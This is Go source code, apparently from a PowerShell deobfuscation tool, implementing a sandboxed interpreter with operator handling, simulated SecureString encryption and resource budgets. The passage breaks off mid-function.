func bitwise(l, r any, op func(a, b int64) int64) (any, error) {
	li, err := ToInt(l)
	if err != nil {
		return nil, err
	}
	ri, err := ToInt(r)
	if err != nil {
		return nil, err
	}
	return op(li, ri), nil
}

// rangeValues implements the .. operator with a size cap and an
// allocation charge.
func (in *Interp) rangeValues(l, r any) (any, error) {
	lo, err := ToInt(l)
	if err != nil {
		return nil, err
	}
	hi, err := ToInt(r)
	if err != nil {
		return nil, err
	}
	// Multi-layer encoded samples index whole wrapper texts with
	// reversed ranges ('...'[400000..0]), so the hard cap has to admit
	// ranges as long as the longest legal string; the 16-byte-per-
	// element charge below still bounds total memory long before the
	// cap is reached.
	const maxRange = 1 << 23
	size := hi - lo
	if size < 0 {
		size = -size
	}
	if size+1 > maxRange {
		return nil, ErrBudget
	}
	if err := in.charge(16 * int(size+1)); err != nil {
		return nil, err
	}
	out := make([]any, 0, size+1)
	if lo <= hi {
		for v := lo; v <= hi; v++ {
			out = append(out, v)
		}
	} else {
		for v := lo; v >= hi; v-- {
			out = append(out, v)
		}
	}
	return out, nil
}

// splitOperator implements the binary -split operator (regex split,
// flattening array left operands like PowerShell).
func (in *Interp) splitOperator(l, r any, caseSensitive bool) (any, error) {
	pattern := ""
	limit := -1
	switch rv := r.(type) {
	case []any:
		if len(rv) > 0 {
			pattern = ToString(rv[0])
		}
		if len(rv) > 1 {
			n, err := ToInt(rv[1])
			if err == nil && n > 0 {
				limit = int(n)
			}
		}
	default:
		pattern = ToString(r)
	}
	re, err := compileRegex(pattern, caseSensitive)
	if err != nil {
		return nil, err
	}
	var out []any
	for _, item := range ToArray(l) {
		for _, piece := range re.Split(ToString(item), limit) {
			out = append(out, piece)
		}
	}
	return out, nil
}

// replaceOperator implements -replace (regex, case-insensitive by
// default).
func (in *Interp) replaceOperator(l, r any, caseSensitive bool) (any, error) {
	pattern := ""
	replacement := ""
	switch rv := r.(type) {
	case []any:
		if len(rv) > 0 {
			pattern = ToString(rv[0])
		}
		if len(rv) > 1 {
			replacement = ToString(rv[1])
		}
	default:
		pattern = ToString(r)
	}
	re, err := compileRegex(pattern, caseSensitive)
	if err != nil {
		return nil, err
	}
	repl := translateReplacement(replacement)
	apply := func(s string) (string, error) {
		out := re.ReplaceAllString(s, repl)
		if err := in.chargeString(len(out)); err != nil {
			return "", err
		}
		return out, nil
	}
	if arr, ok := l.([]any); ok {
		out := make([]any, len(arr))
		for i, item := range arr {
			s, err := apply(ToString(item))
			if err != nil {
				return nil, err
			}
			out[i] = s
		}
		return out, nil
	}
	return apply(ToString(l))
}

// translateReplacement converts .NET "$1" group references to Go's
// "${1}" form so adjacent text is not absorbed into the group name.
func translateReplacement(repl string) string {
	var sb strings.Builder
	for i := 0; i < len(repl); i++ {
		c := repl[i]
		if c != '$' || i+1 >= len(repl) {
			sb.WriteByte(c)
			continue
		}
		j := i + 1
		if repl[j] == '$' {
			sb.WriteString("$$")
			i = j
			continue
		}
		if repl[j] == '{' {
			sb.WriteByte(c)
			continue
		}
		start := j
		for j < len(repl) && (repl[j] >= '0' && repl[j] <= '9') {
			j++
		}
		if j > start {
			sb.WriteString("${" + repl[start:j] + "}")
			i = j - 1
			continue
		}
		sb.WriteByte(c)
	}
	return sb.String()
}

// compileRegex compiles a .NET-style pattern with PowerShell's default
// case-insensitivity.
func compileRegex(pattern string, caseSensitive bool) (*regexp.Regexp, error) {
	p := translateDotNetRegex(pattern)
	if !caseSensitive {
		p = "(?is)" + p
	} else {
		p = "(?s)" + p
	}
	re, err := regexp.Compile(p)
	if err != nil {
		return nil, fmt.Errorf("%w: regex %q: %v", ErrUnsupported, pattern, err)
	}
	return re, nil
}

// translateDotNetRegex adapts the common .NET regex constructs that
// differ from RE2: named groups (?<name>...) and redundant escapes.
func translateDotNetRegex(p string) string {
	return strings.ReplaceAll(p, "(?<", "(?P<")
}

// compileWildcard converts a PowerShell wildcard pattern (* ? [a-z]) to
// an anchored regular expression.
func compileWildcard(pattern string, caseSensitive bool) (*regexp.Regexp, error) {
	var sb strings.Builder
	if caseSensitive {
		sb.WriteString(`(?s)\A`)
	} else {
		sb.WriteString(`(?is)\A`)
	}
	for i := 0; i < len(pattern); i++ {
		switch c := pattern[i]; c {
		case '*':
			sb.WriteString(".*")
		case '?':
			sb.WriteString(".")
		case '[':
			end := strings.IndexByte(pattern[i:], ']')
			if end < 0 {
				sb.WriteString(regexp.QuoteMeta(pattern[i:]))
				i = len(pattern)
				break
			}
			sb.WriteString(pattern[i : i+end+1])
			i += end
		case '`':
			if i+1 < len(pattern) {
				sb.WriteString(regexp.QuoteMeta(string(pattern[i+1])))
				i++
			}
		default:
			sb.WriteString(regexp.QuoteMeta(string(c)))
		}
	}
	sb.WriteString(`\z`)
	re, err := regexp.Compile(sb.String())
	if err != nil {
		return nil, fmt.Errorf("%w: wildcard %q", ErrUnsupported, pattern)
	}
	return re, nil
}

// isOfType implements -is with a pragmatic type-name comparison.
func isOfType(v any, typeName string) bool {
	name := strings.ToLower(strings.Trim(typeName, "[]"))
	name = strings.TrimPrefix(name, "system.")
	switch v.(type) {
	case string:
		return name == "string"
	case int64, int:
		return name == "int" || name == "int32" || name == "int64" || name == "long"
	case float64:
		return name == "double" || name == "float" || name == "single"
	case bool:
		return name == "bool" || name == "boolean"
	case Char:
		return name == "char"
	case []any:
		return name == "array" || name == "object[]" || strings.HasSuffix(name, "[]")
	case Bytes:
		return name == "byte[]" || name == "array"
	case *Hashtable:
		return name == "hashtable" || name == "collections.hashtable"
	case *ScriptBlockValue:
		return name == "scriptblock" || name == "management.automation.scriptblock"
	}
	return false
}

func typeNameOf(r any) string {
	switch x := r.(type) {
	case TypeValue:
		return x.Name
	default:
		return ToString(r)
	}
}
