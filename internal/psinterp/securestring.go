package psinterp

import (
	"crypto/aes"
	"crypto/cipher"
	"encoding/base64"
	"fmt"
	"strings"
)

// SecureString simulation.
//
// Real PowerShell's ConvertFrom-SecureString -Key emits the .NET
// "encrypted standard string": a pipe-delimited structure around an
// AES-encrypted UTF-16LE payload. The exact container layout is
// undocumented, so this package defines a compatible-in-spirit format
// that both our obfuscator and deobfuscator share (see DESIGN.md,
// substitution #4):
//
//	base64( "PSSEC1|" + base64(iv) + "|" + base64(aes-cbc(key, utf16le(plain))) )
//
// Keys shorter than 16/24/32 bytes are zero-padded like .NET's
// Rijndael key handling; without -Key a fixed machine key simulates
// DPAPI. The recovery path exercised by the paper's SecureString
// obfuscation (Table II row "SecureString") is therefore end-to-end
// real: decryption genuinely happens during deobfuscation.

const secureStringMagic = "PSSEC1"

// machineKey simulates DPAPI (per-machine entropy) for the keyless
// ConvertFrom-SecureString form.
var machineKey = []byte("invoke-deobfuscation-machine-key")

// normalizeAESKey pads or truncates a key to a legal AES size.
func normalizeAESKey(key []byte) []byte {
	size := 16
	switch {
	case len(key) > 24:
		size = 32
	case len(key) > 16:
		size = 24
	}
	out := make([]byte, size)
	copy(out, key)
	return out
}

// deriveIV deterministically derives an IV from the key and plaintext
// length, keeping encryption reproducible for tests.
func deriveIV(key []byte, n int) []byte {
	iv := make([]byte, aes.BlockSize)
	for i := range iv {
		iv[i] = byte(int(key[i%len(key)]) + n*31 + i*17)
	}
	return iv
}

// EncryptSecureString produces the simulated encrypted standard string.
func EncryptSecureString(plain string, key []byte) (string, error) {
	if len(key) == 0 {
		key = machineKey
	}
	k := normalizeAESKey(key)
	block, err := aes.NewCipher(k)
	if err != nil {
		return "", fmt.Errorf("psinterp: securestring: %w", err)
	}
	payload := []byte(encodeString("unicode", plain))
	// PKCS#7 padding.
	pad := aes.BlockSize - len(payload)%aes.BlockSize
	for i := 0; i < pad; i++ {
		payload = append(payload, byte(pad))
	}
	iv := deriveIV(k, len(plain))
	ct := make([]byte, len(payload))
	cipher.NewCBCEncrypter(block, iv).CryptBlocks(ct, payload)
	inner := secureStringMagic + "|" +
		base64.StdEncoding.EncodeToString(iv) + "|" +
		base64.StdEncoding.EncodeToString(ct)
	return base64.StdEncoding.EncodeToString([]byte(inner)), nil
}

// DecryptSecureString reverses EncryptSecureString.
func DecryptSecureString(enc string, key []byte) (string, error) {
	if len(key) == 0 {
		key = machineKey
	}
	raw, err := base64.StdEncoding.DecodeString(strings.TrimSpace(enc))
	if err != nil {
		return "", fmt.Errorf("psinterp: securestring: bad container: %v", err)
	}
	parts := strings.Split(string(raw), "|")
	if len(parts) != 3 || parts[0] != secureStringMagic {
		return "", fmt.Errorf("psinterp: securestring: unrecognized format")
	}
	iv, err := base64.StdEncoding.DecodeString(parts[1])
	if err != nil || len(iv) != aes.BlockSize {
		return "", fmt.Errorf("psinterp: securestring: bad IV")
	}
	ct, err := base64.StdEncoding.DecodeString(parts[2])
	if err != nil || len(ct) == 0 || len(ct)%aes.BlockSize != 0 {
		return "", fmt.Errorf("psinterp: securestring: bad ciphertext")
	}
	block, err := aes.NewCipher(normalizeAESKey(key))
	if err != nil {
		return "", fmt.Errorf("psinterp: securestring: %w", err)
	}
	pt := make([]byte, len(ct))
	cipher.NewCBCDecrypter(block, iv).CryptBlocks(pt, ct)
	pad := int(pt[len(pt)-1])
	if pad <= 0 || pad > aes.BlockSize || pad > len(pt) {
		return "", fmt.Errorf("psinterp: securestring: bad padding (wrong key?)")
	}
	pt = pt[:len(pt)-pad]
	return decodeBytes("unicode", Bytes(pt)), nil
}

func cmdConvertToSecureString(in *Interp, args []commandArg, input []any, _ *scope) ([]any, error) {
	pos := positionals(args)
	value := ""
	if v, ok := paramValue(args, "string"); ok {
		value = ToString(v)
	} else if len(pos) > 0 {
		value = ToString(pos[0])
	} else if len(input) > 0 {
		value = ToString(Unwrap(input))
	}
	if _, plaintext := paramValue(args, "asplaintext"); plaintext {
		return []any{&SecureString{Plain: value}}, nil
	}
	var key []byte
	if v, ok := paramValue(args, "key"); ok {
		b, err := in.castValue("byte[]", v)
		if err != nil {
			return nil, err
		}
		key = []byte(b.(Bytes))
	}
	plain, err := DecryptSecureString(value, key)
	if err != nil {
		return nil, err
	}
	return []any{&SecureString{Plain: plain}}, nil
}

func cmdConvertFromSecureString(in *Interp, args []commandArg, input []any, _ *scope) ([]any, error) {
	pos := positionals(args)
	var ss *SecureString
	if v, ok := paramValue(args, "securestring"); ok {
		ss, _ = v.(*SecureString)
	} else if len(pos) > 0 {
		ss, _ = pos[0].(*SecureString)
	} else if len(input) > 0 {
		ss, _ = Unwrap(input).(*SecureString)
	}
	if ss == nil {
		return nil, fmt.Errorf("psinterp: ConvertFrom-SecureString requires a SecureString")
	}
	var key []byte
	if v, ok := paramValue(args, "key"); ok {
		b, err := in.castValue("byte[]", v)
		if err != nil {
			return nil, err
		}
		key = []byte(b.(Bytes))
	}
	enc, err := EncryptSecureString(ss.Plain, key)
	if err != nil {
		return nil, err
	}
	return []any{enc}, nil
}
