package psinterp

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
)

// Sentinel errors. Callers use errors.Is to distinguish recoverable
// evaluation failures (skip the piece) from bugs.
var (
	// ErrBudget signals the step budget was exhausted.
	ErrBudget = errors.New("psinterp: execution budget exhausted")
	// ErrBlocked signals a blocklisted command was invoked.
	ErrBlocked = errors.New("psinterp: blocked command")
	// ErrSideEffect signals the host denied a side effect.
	ErrSideEffect = errors.New("psinterp: side effect denied")
	// ErrUnsupported signals an unimplemented language or library
	// feature.
	ErrUnsupported = errors.New("psinterp: unsupported")

	// Envelope sentinels, re-exported from the shared taxonomy so
	// callers of this package need not import internal/limits.

	// ErrDeadline signals the context deadline expired mid-evaluation.
	ErrDeadline = limits.ErrDeadline
	// ErrCanceled signals the evaluation context was canceled.
	ErrCanceled = limits.ErrCanceled
	// ErrMemBudget signals the cumulative allocation budget was
	// exhausted.
	ErrMemBudget = limits.ErrMemBudget
)

// UnknownVariableError reports a read of a variable that is not defined.
type UnknownVariableError struct {
	Name string
}

func (e *UnknownVariableError) Error() string {
	return fmt.Sprintf("psinterp: unknown variable $%s", e.Name)
}

// flowKind classifies non-local control flow.
type flowKind int

const (
	flowReturn flowKind = iota + 1
	flowBreak
	flowContinue
	flowExit
	flowThrow
)

// flowSignal is the internal error used for return/break/continue/exit/
// throw propagation.
type flowSignal struct {
	kind  flowKind
	value any
}

func (f *flowSignal) Error() string { return "psinterp: flow signal" }

// TypeValue is the value of a bare [type] literal.
type TypeValue struct {
	Name string
}

func (t TypeValue) String() string { return t.Name }

// Options configures an interpreter instance.
type Options struct {
	// Ctx, when non-nil, bounds evaluation by wall clock: the
	// interpreter observes cancellation and deadlines on the
	// step-counter hot path (amortized, every stepCheckInterval steps)
	// and aborts with ErrDeadline / ErrCanceled. Nil means unbounded.
	Ctx context.Context
	// MaxSteps bounds evaluation work. Zero means the default (2e6).
	MaxSteps int
	// MaxDepth bounds call/IEX nesting. Zero means the default (64).
	MaxDepth int
	// MaxStringLen bounds produced strings. Zero means default (8 MiB).
	MaxStringLen int
	// MaxAllocBytes bounds the *cumulative* bytes materialized across
	// the whole evaluation (string concat/multiply, -join, -replace,
	// format, decoded payloads), so many individually-legal strings
	// cannot add up to an OOM. Zero means default (64 MiB).
	MaxAllocBytes int64
	// StrictVars makes reads of undefined variables an error instead of
	// nil. The deobfuscator uses strict mode so unknown context aborts
	// recovery instead of producing wrong results.
	StrictVars bool
	// Host mediates side effects. Nil means DenyHost.
	Host Host
	// Blocklist lists lower-cased command names that must not execute
	// (the paper's irrelevant-command blocklist).
	Blocklist map[string]bool
	// Env overrides entries of the simulated Windows environment.
	Env map[string]string
	// IEXHook, when non-nil, intercepts Invoke-Expression and
	// powershell -EncodedCommand payloads instead of executing them.
	// This models the "overriding function" technique of PSDecode,
	// PowerDrive and PowerDecode.
	IEXHook func(code string)
	// EngineScriptHook, when non-nil, observes every script string
	// supplied to the scripting engine (Invoke-Expression in any
	// spelling, InvokeScript, nested powershell) WITHOUT suppressing
	// execution. This models AMSI's vantage point (paper §V-B).
	EngineScriptHook func(code string)
}

// Interp evaluates PowerShell ASTs.
type Interp struct {
	opts   Options
	host   Host
	steps  int
	depth  int
	global *scope
	// env holds the simulated Windows environment. It initially aliases
	// the read-only sharedDefaultEnv; envOwned tracks whether it has
	// been cloned for this interpreter (see setEnv).
	env      map[string]string
	envOwned bool
	// funcs maps lower-cased names of user-defined functions; allocated
	// lazily because most evaluated pieces define none.
	funcs   map[string]*psast.FunctionDefinition
	console strings.Builder
	// lastMatches holds capture groups of the most recent -match.
	lastMatches *Hashtable
	// allocBytes is the cumulative allocation account charged against
	// opts.MaxAllocBytes.
	allocBytes int64
	// exprDepth guards AST-recursion depth in evalExpr independently of
	// the call-nesting depth guard, so a deeply nested expression tree
	// cannot exhaust the goroutine stack.
	exprDepth int
	// deadline caches the context deadline for cheap amortized checks.
	deadline    time.Time
	hasDeadline bool

	// Purity tracking (see Purity): preloaded names the caller defined
	// via SetVar before evaluation, the subset actually read, and the
	// first impurity cause (empty while the run is still pure).
	preloaded     map[string]bool
	readPreloaded map[string]bool
	impureReason  string
}

// New returns an interpreter with the given options.
func New(opts Options) *Interp {
	in := &Interp{global: newScope(nil)}
	in.reset(opts)
	return in
}

// reset reinitializes the interpreter for a new evaluation under opts,
// reusing already-allocated maps (global scope, purity sets) where
// possible. It restores exactly the state New establishes, so a pooled
// interpreter is indistinguishable from a fresh one.
func (in *Interp) reset(opts Options) {
	if opts.MaxSteps == 0 {
		opts.MaxSteps = 2_000_000
	}
	if opts.MaxDepth == 0 {
		opts.MaxDepth = 64
	}
	if opts.MaxStringLen == 0 {
		opts.MaxStringLen = 8 << 20
	}
	if opts.MaxAllocBytes == 0 {
		opts.MaxAllocBytes = 64 << 20
	}
	host := opts.Host
	if host == nil {
		host = DenyHost{}
	}
	in.opts = opts
	// Every host call is a side effect: route them through the
	// impurity-marking wrapper so purity tracking has a single choke
	// point for the whole Host surface.
	in.host = impurityHost{in: in, next: host}
	in.steps = 0
	in.depth = 0
	if in.global == nil {
		in.global = newScope(nil)
	}
	in.global.parent = nil
	clear(in.global.vars)
	in.env = sharedDefaultEnv
	in.envOwned = false
	in.funcs = nil
	in.console.Reset()
	in.lastMatches = nil
	in.allocBytes = 0
	in.exprDepth = 0
	in.deadline = time.Time{}
	in.hasDeadline = false
	clear(in.preloaded)
	clear(in.readPreloaded)
	in.impureReason = ""
	if opts.Ctx != nil {
		if dl, ok := opts.Ctx.Deadline(); ok {
			in.deadline = dl
			in.hasDeadline = true
		}
	}
	for k, v := range opts.Env {
		in.setEnv(strings.ToLower(k), v)
	}
}

// Console returns everything written via Write-Host/Write-Output during
// evaluation.
func (in *Interp) Console() string { return in.console.String() }

// SetVar defines a variable in the global scope. Variables defined
// this way — before evaluation, by the embedding caller — are the
// "preloaded" set whose reads the purity tracker records for the
// evaluation cache's environment fingerprint.
func (in *Interp) SetVar(name string, v any) {
	n := normalizeVarName(name)
	if in.preloaded == nil {
		in.preloaded = make(map[string]bool, 8)
	}
	in.preloaded[n] = true
	in.global.set(n, v)
}

// GetVar reads a variable from the global scope chain.
func (in *Interp) GetVar(name string) (any, bool) {
	return in.global.get(normalizeVarName(name))
}

// EvalSnippet parses and evaluates a source fragment, returning the
// pipeline output values.
func (in *Interp) EvalSnippet(src string) ([]any, error) {
	sb, err := psparser.Parse(src)
	if err != nil {
		return nil, err
	}
	return in.EvalScript(sb)
}

// EvalScript evaluates a parsed script block in the global scope. It is
// a panic-isolation barrier: a latent bug anywhere in the interpreter
// surfaces as a *limits.PanicError instead of crashing the process.
func (in *Interp) EvalScript(sb *psast.ScriptBlock) (out []any, err error) {
	defer limits.Recover("eval", &err)
	return in.evalScript(sb)
}

func (in *Interp) evalScript(sb *psast.ScriptBlock) ([]any, error) {
	out, err := in.evalScriptBlockBody(sb, in.global)
	var fs *flowSignal
	if errors.As(err, &fs) {
		switch fs.kind {
		case flowExit, flowReturn:
			return out, nil
		case flowThrow:
			return out, fmt.Errorf("psinterp: uncaught throw: %v", ToString(fs.value))
		default:
			return out, nil
		}
	}
	return out, err
}

func (in *Interp) evalScriptBlockBody(sb *psast.ScriptBlock, sc *scope) ([]any, error) {
	if sb == nil || sb.Body == nil {
		return nil, nil
	}
	return in.evalStatements(sb.Body.Statements, sc)
}

// stepCheckInterval amortizes the wall-clock deadline check: the
// context/deadline is consulted once every stepCheckInterval steps so
// the fast path stays a counter increment plus one branch. Must be a
// power of two.
const stepCheckInterval = 1 << 10

func (in *Interp) step() error {
	in.steps++
	if in.steps > in.opts.MaxSteps {
		return ErrBudget
	}
	if in.steps&(stepCheckInterval-1) == 0 {
		return in.checkContext()
	}
	return nil
}

// checkContext maps context expiry onto the envelope taxonomy. It is
// called off the hot path (amortized from step, and directly before
// expensive one-shot operations such as regex compilation or payload
// decoding).
func (in *Interp) checkContext() error {
	if in.hasDeadline && time.Now().After(in.deadline) {
		return ErrDeadline
	}
	if in.opts.Ctx != nil {
		if err := in.opts.Ctx.Err(); err != nil {
			return limits.FromContext(err)
		}
	}
	return nil
}

// charge accounts n bytes of materialized data against the cumulative
// allocation budget, failing with ErrMemBudget when the envelope is
// exceeded. Individual strings are additionally capped by MaxStringLen
// at their construction sites.
func (in *Interp) charge(n int) error {
	if n <= 0 {
		return nil
	}
	in.allocBytes += int64(n)
	if in.allocBytes > in.opts.MaxAllocBytes {
		return ErrMemBudget
	}
	return nil
}

// chargeString is charge specialized for freshly produced strings: it
// enforces both the per-string cap and the cumulative budget.
func (in *Interp) chargeString(n int) error {
	if n > in.opts.MaxStringLen {
		return ErrBudget
	}
	return in.charge(n)
}

// scope is one level of the dynamic scope chain.
type scope struct {
	vars   map[string]any
	parent *scope
}

// newScope creates a child scope. The variable map is allocated
// lazily on first write: function calls, script blocks and loop bodies
// routinely open scopes that never define a variable, and piece
// evaluation opens thousands of interpreters whose global scope holds
// only a few preloaded names.
func newScope(parent *scope) *scope {
	return &scope{parent: parent}
}

func (s *scope) get(name string) (any, bool) {
	for cur := s; cur != nil; cur = cur.parent {
		if v, ok := cur.vars[name]; ok {
			return v, true
		}
	}
	return nil, false
}

// set updates the variable where it is defined, creating it in the
// current scope otherwise.
func (s *scope) set(name string, v any) {
	for cur := s; cur != nil; cur = cur.parent {
		if _, ok := cur.vars[name]; ok {
			cur.vars[name] = v
			return
		}
	}
	s.define(name, v)
}

// define writes name into this scope (not the chain), materializing
// the lazy variable map on first use.
func (s *scope) define(name string, v any) {
	if s.vars == nil {
		s.vars = make(map[string]any, 4)
	}
	s.vars[name] = v
}

// normalizeVarName lower-cases a variable name and strips scope
// qualifiers (global:, script:, local:, private:, variable:).
func normalizeVarName(name string) string {
	n := strings.ToLower(name)
	for _, prefix := range []string{"global:", "script:", "local:", "private:", "variable:"} {
		if strings.HasPrefix(n, prefix) {
			return strings.TrimPrefix(n, prefix)
		}
	}
	return n
}

func (in *Interp) evalStatements(stmts []psast.Node, sc *scope) ([]any, error) {
	var out []any
	for _, st := range stmts {
		vals, err := in.evalStatement(st, sc)
		out = append(out, vals...)
		if err != nil {
			return out, err
		}
	}
	return out, nil
}

func (in *Interp) evalStatement(node psast.Node, sc *scope) ([]any, error) {
	if err := in.step(); err != nil {
		return nil, err
	}
	switch n := node.(type) {
	case *psast.Pipeline:
		return in.evalPipeline(n, sc)
	case *psast.Assignment:
		_, err := in.evalAssignment(n, sc)
		return nil, err
	case *psast.If:
		return in.evalIf(n, sc)
	case *psast.While:
		return in.evalWhile(n, sc)
	case *psast.DoLoop:
		return in.evalDo(n, sc)
	case *psast.For:
		return in.evalFor(n, sc)
	case *psast.ForEach:
		return in.evalForEach(n, sc)
	case *psast.Switch:
		return in.evalSwitch(n, sc)
	case *psast.Try:
		return in.evalTry(n, sc)
	case *psast.FunctionDefinition:
		if in.funcs == nil {
			in.funcs = make(map[string]*psast.FunctionDefinition, 4)
		}
		in.funcs[strings.ToLower(n.Name)] = n
		return nil, nil
	case *psast.FlowStatement:
		return in.evalFlow(n, sc)
	case *psast.StatementBlock:
		return in.evalStatements(n.Statements, sc)
	case *psast.ParamBlock:
		return nil, nil
	case *psast.CommandExpression:
		v, err := in.evalExpr(n.Expression, sc)
		if err != nil {
			return nil, err
		}
		return enumerate(v), nil
	default:
		return nil, fmt.Errorf("%w: statement %s", ErrUnsupported, node.Kind())
	}
}

// enumerate converts an expression value to pipeline output values.
func enumerate(v any) []any {
	switch x := v.(type) {
	case nil:
		return nil
	case []any:
		return x
	default:
		return []any{v}
	}
}

func (in *Interp) evalPipeline(p *psast.Pipeline, sc *scope) ([]any, error) {
	var input []any
	for i, elem := range p.Elements {
		var out []any
		var err error
		switch e := elem.(type) {
		case *psast.Command:
			out, err = in.runCommand(e, input, sc)
		case *psast.CommandExpression:
			var v any
			v, err = in.evalExpr(e.Expression, sc)
			if err == nil {
				out = enumerate(v)
				if i > 0 {
					// An expression mid-pipeline replaces the stream.
					_ = input
				}
			}
		default:
			err = fmt.Errorf("%w: pipeline element %s", ErrUnsupported, elem.Kind())
		}
		if err != nil {
			return nil, err
		}
		input = out
	}
	return input, nil
}

func (in *Interp) evalAssignment(n *psast.Assignment, sc *scope) (any, error) {
	value, err := in.evalAssignmentValue(n.Right, sc)
	if err != nil {
		return nil, err
	}
	if n.Operator != "=" {
		old, err := in.evalExpr(n.Left, sc)
		if err != nil {
			return nil, err
		}
		op := strings.TrimSuffix(n.Operator, "=")
		value, err = in.evalBinaryOp(op, old, value)
		if err != nil {
			return nil, err
		}
	}
	if err := in.assignTo(n.Left, value, sc); err != nil {
		return nil, err
	}
	return value, nil
}

// evalAssignmentValue evaluates an assignment RHS, preserving the
// expression value (including empty arrays, which pipeline enumeration
// would collapse to null).
func (in *Interp) evalAssignmentValue(right psast.Node, sc *scope) (any, error) {
	if pipe, ok := right.(*psast.Pipeline); ok && len(pipe.Elements) == 1 {
		if ce, ok := pipe.Elements[0].(*psast.CommandExpression); ok {
			return in.evalExpr(ce.Expression, sc)
		}
	}
	vals, err := in.evalStatement(right, sc)
	if err != nil {
		return nil, err
	}
	return Unwrap(vals), nil
}

// assignTo stores value into an lvalue expression.
func (in *Interp) assignTo(target psast.Node, value any, sc *scope) error {
	switch t := target.(type) {
	case *psast.VariableExpression:
		name := strings.ToLower(t.Name)
		if strings.HasPrefix(name, "env:") {
			in.markImpure("env write: " + name)
			in.setEnv(strings.TrimPrefix(name, "env:"), ToString(value))
			return nil
		}
		if strings.HasPrefix(name, "global:") || strings.HasPrefix(name, "script:") {
			in.global.define(normalizeVarName(t.Name), value)
			return nil
		}
		sc.set(normalizeVarName(t.Name), value)
		return nil
	case *psast.ConvertExpression:
		cast, err := in.castValue(t.TypeName, value)
		if err != nil {
			return err
		}
		return in.assignTo(t.Operand, cast, sc)
	case *psast.IndexExpression:
		targetVal, err := in.evalExpr(t.Target, sc)
		if err != nil {
			return err
		}
		idxVal, err := in.evalExpr(t.Index, sc)
		if err != nil {
			return err
		}
		return in.setIndex(targetVal, idxVal, value)
	case *psast.MemberExpression:
		targetVal, err := in.evalExpr(t.Target, sc)
		if err != nil {
			return err
		}
		name, err := in.memberName(t.Member, sc)
		if err != nil {
			return err
		}
		return in.setProperty(targetVal, name, value)
	case *psast.ArrayLiteral:
		vals := ToArray(value)
		for i, el := range t.Elements {
			var v any
			if i < len(vals) {
				v = vals[i]
			}
			if err := in.assignTo(el, v, sc); err != nil {
				return err
			}
		}
		return nil
	}
	return fmt.Errorf("%w: assignment to %s", ErrUnsupported, target.Kind())
}

func (in *Interp) setIndex(target, index, value any) error {
	switch t := target.(type) {
	case []any:
		i, err := ToInt(index)
		if err != nil {
			return err
		}
		if i < 0 {
			i += int64(len(t))
		}
		if i < 0 || i >= int64(len(t)) {
			return fmt.Errorf("psinterp: index %d out of range", i)
		}
		t[i] = value
		return nil
	case Bytes:
		i, err := ToInt(index)
		if err != nil {
			return err
		}
		b, err := ToInt(value)
		if err != nil {
			return err
		}
		if i < 0 {
			i += int64(len(t))
		}
		if i < 0 || i >= int64(len(t)) {
			return fmt.Errorf("psinterp: index %d out of range", i)
		}
		t[i] = byte(b)
		return nil
	case *Hashtable:
		t.Set(ToString(index), value)
		return nil
	}
	return fmt.Errorf("%w: index assignment on %T", ErrUnsupported, target)
}

func (in *Interp) evalIf(n *psast.If, sc *scope) ([]any, error) {
	for _, clause := range n.Clauses {
		cond, err := in.evalCondition(clause.Cond, sc)
		if err != nil {
			return nil, err
		}
		if cond {
			return in.evalStatements(clause.Body.Statements, sc)
		}
	}
	if n.Else != nil {
		return in.evalStatements(n.Else.Statements, sc)
	}
	return nil, nil
}

// evalCondition evaluates a statement used as a condition.
func (in *Interp) evalCondition(cond psast.Node, sc *scope) (bool, error) {
	vals, err := in.evalStatement(cond, sc)
	if err != nil {
		return false, err
	}
	return ToBool(Unwrap(vals)), nil
}

func (in *Interp) evalWhile(n *psast.While, sc *scope) ([]any, error) {
	var out []any
	for {
		if err := in.step(); err != nil {
			return out, err
		}
		cond, err := in.evalCondition(n.Cond, sc)
		if err != nil {
			return out, err
		}
		if !cond {
			return out, nil
		}
		vals, err := in.evalStatements(n.Body.Statements, sc)
		out = append(out, vals...)
		if stop, err := loopSignal(err); stop {
			return out, err
		}
	}
}

// loopSignal interprets an error inside a loop body: break stops the
// loop, continue proceeds, anything else propagates.
func loopSignal(err error) (stop bool, out error) {
	if err == nil {
		return false, nil
	}
	var fs *flowSignal
	if errors.As(err, &fs) {
		switch fs.kind {
		case flowBreak:
			return true, nil
		case flowContinue:
			return false, nil
		}
	}
	return true, err
}

func (in *Interp) evalDo(n *psast.DoLoop, sc *scope) ([]any, error) {
	var out []any
	for {
		if err := in.step(); err != nil {
			return out, err
		}
		vals, err := in.evalStatements(n.Body.Statements, sc)
		out = append(out, vals...)
		if stop, err := loopSignal(err); stop {
			return out, err
		}
		cond, err := in.evalCondition(n.Cond, sc)
		if err != nil {
			return out, err
		}
		if n.Until {
			cond = !cond
		}
		if !cond {
			return out, nil
		}
	}
}

func (in *Interp) evalFor(n *psast.For, sc *scope) ([]any, error) {
	var out []any
	if n.Init != nil {
		if _, err := in.evalStatement(n.Init, sc); err != nil {
			return nil, err
		}
	}
	for {
		if err := in.step(); err != nil {
			return out, err
		}
		if n.Cond != nil {
			cond, err := in.evalCondition(n.Cond, sc)
			if err != nil {
				return out, err
			}
			if !cond {
				return out, nil
			}
		}
		vals, err := in.evalStatements(n.Body.Statements, sc)
		out = append(out, vals...)
		if stop, err := loopSignal(err); stop {
			return out, err
		}
		if n.Iter != nil {
			if _, err := in.evalStatement(n.Iter, sc); err != nil {
				return out, err
			}
		}
	}
}

func (in *Interp) evalForEach(n *psast.ForEach, sc *scope) ([]any, error) {
	coll, err := in.evalExpr(n.Collection, sc)
	if err != nil {
		return nil, err
	}
	var out []any
	for _, item := range ToArray(coll) {
		if err := in.step(); err != nil {
			return out, err
		}
		sc.set(normalizeVarName(n.Variable.Name), item)
		vals, err := in.evalStatements(n.Body.Statements, sc)
		out = append(out, vals...)
		if stop, err := loopSignal(err); stop {
			return out, err
		}
	}
	return out, nil
}

func (in *Interp) evalSwitch(n *psast.Switch, sc *scope) ([]any, error) {
	var subject any
	if n.Cond != nil {
		vals, err := in.evalStatement(n.Cond, sc)
		if err != nil {
			return nil, err
		}
		subject = Unwrap(vals)
	}
	var out []any
	matched := false
	for _, item := range ToArray(subject) {
		sc.set("_", item)
		for _, c := range n.Cases {
			pat, err := in.evalExpr(c.Pattern, sc)
			if err != nil {
				return out, err
			}
			// Default switch semantics compare with -eq; wildcard
			// matching requires the -wildcard flag, which obfuscated
			// samples do not use.
			if DeepEqualFold(item, pat) {
				matched = true
